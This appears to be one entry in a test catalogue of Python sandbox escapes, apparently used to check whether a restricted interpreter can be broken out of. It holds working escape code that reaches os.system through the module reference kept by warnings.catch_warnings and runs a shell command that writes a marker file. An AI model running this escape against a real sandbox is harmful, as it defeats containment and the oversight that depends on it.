"""Reach a shell through the module reference that warnings.catch_warnings keeps.

origin: the classic payload of capture-the-flag jails since Python 2.7
why: the module's builtins are complete even where the job's own are not
control: succeeds
harm: stage
"""


def attack(target):
    for cls in object.__subclasses__():
        if cls.__name__ == "catch_warnings":
            builtins = cls()._module.__builtins__
            builtins = builtins if isinstance(builtins, dict) else vars(builtins)
            code = builtins["__import__"]("os").system(f"echo owned > '{target['stage']}/owned'")
            return escaped("a shell ran") if code == 0 else nothing(f"system() gave {code}: no process was made")
    return nothing("the class is not loaded")
